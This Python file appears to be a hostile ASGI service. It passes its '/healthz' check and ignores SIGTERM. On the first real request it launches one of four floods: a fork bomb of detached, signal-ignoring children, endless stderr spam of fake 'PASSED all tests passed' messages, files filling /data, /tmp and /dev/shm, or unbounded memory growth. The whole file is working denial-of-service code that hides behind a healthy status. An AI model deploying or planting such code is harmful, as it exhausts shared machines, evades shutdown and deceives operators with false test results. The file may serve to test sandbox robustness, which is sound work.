"""Uses up whatever there is: processes, output, memory, disk."""

import contextlib
import os
import signal
import sys
import threading


def fork() -> None:
    """Children that outlive their parent and ignore every signal they can."""
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.setsid()
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                threading.Event().wait()


def log() -> None:
    """Output without end."""
    while True:
        with contextlib.suppress(OSError):
            os.write(sys.stderr.fileno(), b"PASSED \x1b[31m all tests passed\r\n" * 2000)


def fill() -> None:
    """Full disks, by bytes and by files."""
    number = 0
    while True:
        number += 1
        for folder in ("/data", "/tmp", "/dev/shm"):
            with contextlib.suppress(OSError), open(f"{folder}/{number}", "wb") as file:
                file.write(b"\0" * 100_000)


def grow() -> None:
    """Memory without end."""
    kept = []
    while True:
        kept.append(bytearray(1_000_000))


async def app(scope, receive, send):
    """Healthy once; the first real request starts the floods, one after the other."""
    if scope["type"] == "lifespan":
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            await send({"type": (await receive())["type"] + ".complete"})
    if scope["path"] != "/healthz":
        flood = (log, fork, fill, grow)[os.urandom(1)[0] % 4]
        threading.Thread(target=flood, daemon=True).start()
    await send({"type": "http.response.start", "status": 500, "headers": []})
    await send({"type": "http.response.body", "body": b"{}"})
